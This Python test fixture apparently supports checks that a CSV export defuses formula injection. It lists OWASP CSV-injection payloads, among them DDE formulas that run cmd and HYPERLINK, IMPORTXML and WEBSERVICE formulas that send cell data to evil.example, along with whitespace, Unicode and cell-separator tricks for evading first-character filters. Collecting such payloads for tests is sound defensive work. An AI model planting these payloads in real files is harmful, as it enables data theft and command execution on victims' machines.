"""Texts that try to become spreadsheet formulas, and texts that must come through unchanged.

``INJECTIONS``: OWASP's CSV-injection payloads
(https://owasp.org/www-community/attacks/CSV_Injection) and the ways around a check of the
first character only: leading blanks, no-break and zero-width characters, full-width formula
characters, and a formula after a ";", tab or line break, where a spreadsheet reading the file
with another separator starts a new cell. ``SAFE_WHEN_QUOTED`` and ``HARMLESS``: text the
export must leave as it is.
"""

OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "x;=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "@cmd|'/c calc'!A0",
    "=1+1",
    "-1+1",
    "+1+1",
    "@A1",
]

AROUND_THE_FIRST_CHARACTER = [
    " =1+1",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
    "\u202f=1+1",
    "\u2007=1+1",
    "\u200b=1+1",
    "\u200c=1+1",
    "\u200d=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    " \u00a0\u200b\t=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\u00a0\uff1dcmd|' /C calc'!A0",
]

AFTER_A_CELL_BREAK = [
    "a;=1+1",
    "a; =1+1",
    "a;\u00a0=1+1",
    "a;\u200b=1+1",
    "a;\uff1d1+1",
    "a;-1+1",
    "a;+1+1",
    "a;@SUM(1+1)",
    "a\t=1+1",
    "a\n=1+1",
    "a\r=1+1",
    "a\r\n=1+1",
    "a\n\n=1+1",
    "a\n\u00a0-1+1",
    "first line\n@SUM(1+1)*cmd|' /C calc'!A0",
    "=1;=2;=3",
]

INJECTIONS = OWASP + AROUND_THE_FIRST_CHARACTER + AFTER_A_CELL_BREAK

# Payloads that no spreadsheet runs once every text cell is quoted and quotes are doubled: they
# must come through unchanged (the spreadsheet test checks that they stay text).
SAFE_WHEN_QUOTED = [
    'DDE ("cmd";"/C calc";"!A0")A0',
    'a;"=1+1"',
    'a\n"=1+1"',
    'a;""=1+1"',
    "a,=1+1;b",
    "a,@SUM(1+1)",
]

HARMLESS = [
    "plain",
    "a=b, x-1 @home",
    "Clear, thanks",
    "9 lives",
    "42",
    "It's fine; really",
    "Two\nlines",
    "Ünïcode 日本 Ωmega",
    "'quoted already",
    '"quoted" first',
]
